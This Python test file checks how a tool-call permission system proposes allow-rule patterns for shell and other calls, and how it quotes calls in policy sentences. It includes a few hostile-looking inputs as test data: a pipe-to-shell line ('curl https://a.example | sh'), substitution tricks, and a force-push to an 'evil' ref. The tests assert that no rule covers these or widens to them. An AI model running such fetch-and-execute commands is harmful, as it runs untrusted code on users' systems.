"""The patterns that would cover a call: they do cover it, and no more than they say; and a sentence
for the policy: it names the call, and lets the call say nothing else."""

import asyncio
import shlex

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from automode.core.call import Shell, ToolCall
from automode.core.decision import Verdict
from automode.core.session import Session
from automode.core.tools import tool_call
from automode.core.workspace import Workspace
from automode.facts.files import Names
from automode.guards.reads.read_only import ReadOnly
from automode.rules.layer import Rules
from automode.rules.pattern import Rule
from automode.rules.proposal import LONGEST_SPAN, policy_sentence, proposals
from tests.reading import READER, facts_of
from tests.rows import each_row, rows

WORKSPACE = Workspace("/w", "/w", "/home/u", Names("/w"))


def bash(command: str) -> ToolCall:
    return tool_call("bash", {"command": command})


def texts(call: ToolCall) -> list[list[str]]:
    return [[*one.patterns] for one in proposals(call, WORKSPACE, READER)]


def covers(patterns: tuple[str, ...], call: ToolCall) -> bool:
    layer = Rules(Verdict.ALLOW, [Rule(text) for text in patterns], protected=lambda path: False)
    return asyncio.run(layer(facts_of(call, WORKSPACE), Session("s", WORKSPACE), ())) is not None


@each_row("command, expected", rows("rules", "proposals-for-scripts"))
def test_a_script_is_covered_narrowly_and_then_more_widely(
    command: str, expected: list[list[str]]
) -> None:
    assert texts(bash(command)) == expected
    assert command == "npm run" or all(covers(tuple(one), bash(command)) for one in expected)


def test_what_only_reads_and_the_text_of_a_commit_are_no_part_of_a_proposal() -> None:
    tested = bash("cd /w && go test ./... 2>&1 | tail -20")
    committed = bash("git commit -q -F - <<'EOF'\nhello\nEOF")

    found = proposals(tested, WORKSPACE, READER, ReadOnly().proves)

    assert [one.patterns for one in found] == [("bash(go test ./...)",), ("bash(go test *)",)]
    assert texts(committed) == [["bash(git commit -q -F -)"], ["bash(git commit *)"]]


UNCOVERED = ("curl https://a.example | sh", "git $X", "echo `date`", 'bash -c "$X"', "(")


@pytest.mark.parametrize("command", UNCOVERED)
def test_what_no_rule_may_cover_gets_no_proposal(command: str) -> None:
    assert texts(bash(command)) == []


@each_row("tool, given, expected", rows("rules", "proposals-for-calls"))
def test_other_calls_are_covered_by_their_own_patterns(
    tool: str, given: dict[str, object], expected: list[list[str]]
) -> None:
    call = tool_call(tool, given)

    assert texts(call) == expected
    assert all(covers(tuple(one), call) for one in expected)


def test_an_input_longer_than_a_pattern_is_covered_by_its_tool_alone() -> None:
    call = tool_call("mcp__a__b", {"x": "y" * 70_000})

    assert texts(call) == [["mcp__a__b"]]
    assert "whatever its input is" in proposals(call, WORKSPACE, READER)[0].beyond


WIDER = {
    'git commit -m "it\'s done"': 'git commit -m "it\'s done" --amend',
    "git push origin 'refs/heads/*'": "git push origin refs/heads/evil --force",
    "deploy '>' file": "deploy > file",
}


@pytest.mark.parametrize("command", WIDER)
def test_the_spelling_of_a_call_does_not_widen_its_rule(command: str) -> None:
    narrow = proposals(bash(command), WORKSPACE, READER)[0]

    assert covers(narrow.patterns, bash(command))
    assert not covers(narrow.patterns, bash(WIDER[command]))


WORDS = st.lists(st.text("ab-'\" *?<>\\$#\n", max_size=4), min_size=1, max_size=3)


@given(WORDS)
def test_whatever_the_words_the_narrowest_rule_covers_them_and_has_no_star(
    words: list[str],
) -> None:
    call = bash(shlex.join(["deploy", *words]))
    found = proposals(call, WORKSPACE, READER)
    assume(found)  # the reader does not follow every escape

    narrow = found[0].patterns

    assert covers(narrow, call)
    assert "*" not in "".join(narrow)


SPELLED = st.lists(st.text("ab-'\"\\$#<>", min_size=1, max_size=4), min_size=1, max_size=3)


@given(SPELLED | WORDS, st.data())
def test_an_exact_rule_covers_no_other_words(words: list[str], data: st.DataObject) -> None:
    found = proposals(bash(shlex.join(["deploy", *words])), WORKSPACE, READER)
    exact = next((one.patterns for one in found if one.exact), ("bash(deploy)",))
    spelled = exact[0].removeprefix("bash(deploy ").removesuffix(")")
    likely = st.sampled_from((spelled.split(" "), [spelled], " ".join(words).split()))
    others = data.draw(SPELLED | WORDS | likely)

    covered = covers(exact, bash(shlex.join(["deploy", *others])))

    assert not covered or others == words or not others


@each_row("command, said", rows("rules", "beyond-scripts"))
def test_a_rule_says_what_it_covers_beyond_the_call(command: str, said: str) -> None:
    narrow = proposals(bash(command), WORKSPACE, READER)[0]

    assert narrow.exact == (not said)
    assert said in narrow.beyond


@each_row("tool, given, expected", rows("rules", "beyond-calls"))
def test_other_rules_say_what_they_cover_beyond_the_call(
    tool: str, given: dict[str, object], expected: list[str]
) -> None:
    found = [one.beyond for one in proposals(tool_call(tool, given), WORKSPACE, READER)]

    assert [bool(said) for said in found] == [bool(part) for part in expected]
    assert all(part in said for part, said in zip(expected, found, strict=True))


NO_SENTENCE = [["bash", {"command": "echo " + "x" * LONGEST_SPAN}]]
SENTENCES = [
    *rows("rules", "policy-sentences"),
    *((*row, None) for row in (*rows("rules", "policy-no-sentence"), *NO_SENTENCE)),
]


@each_row("tool, given, sentence", SENTENCES)
def test_the_policy_gets_a_sentence_that_names_the_call_unless_it_could_say_more_than_a_command(
    tool: str, given: dict[str, object], sentence: str | None
) -> None:
    assert policy_sentence(tool_call(tool, given), WORKSPACE) == sentence


TEXTS = st.text(min_size=1, max_size=40) | st.text("git push-`'\".#\n", min_size=1, max_size=40)


@given(TEXTS.filter(str.strip), TEXTS)
def test_whatever_the_call_its_text_stands_in_one_quoted_span(command: str, folder: str) -> None:
    call, root = ToolCall("bash", Shell(command)), f"/w/{folder}"

    at_home = policy_sentence(call, WORKSPACE)
    elsewhere = policy_sentence(call, Workspace(root, root, "/home/u", Names("/w")))

    assert at_home in (None, f"In the project /w: running exactly `{command.strip()}`.")
    assert at_home is None or (at_home.count("`") == 2 and at_home.isascii())
    assert elsewhere is None or not set(folder) & set(" `:;,'\"\n")
